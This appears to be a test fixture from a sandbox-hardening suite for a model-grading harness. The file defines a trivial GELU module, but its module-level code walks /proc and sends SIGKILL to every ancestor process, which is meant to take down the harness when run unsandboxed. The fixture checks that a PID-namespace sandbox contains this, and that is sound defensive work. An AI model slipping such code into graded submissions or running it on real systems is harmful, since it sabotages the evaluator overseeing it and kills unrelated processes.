# threat: 13 (denial of service): SIGKILLs its parent and every ancestor it can see (unsandboxed,
# that is the harness); in its own PID namespace only the sandbox's init is above it, which ignores
# the signal, so the harness lives and the candidate is judged correct
# task: smoke/5
# expect: correct
import contextlib
import os
import signal

import torch.nn as nn
import torch.nn.functional as F


def _ancestors():
    chain, pid = [], os.getppid()
    while pid > 0 and pid not in chain:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


for _pid in _ancestors():
    with contextlib.suppress(OSError):
        os.kill(_pid, signal.SIGKILL)


class ModelNew(nn.Module):
    def forward(self, x):
        return F.gelu(x)
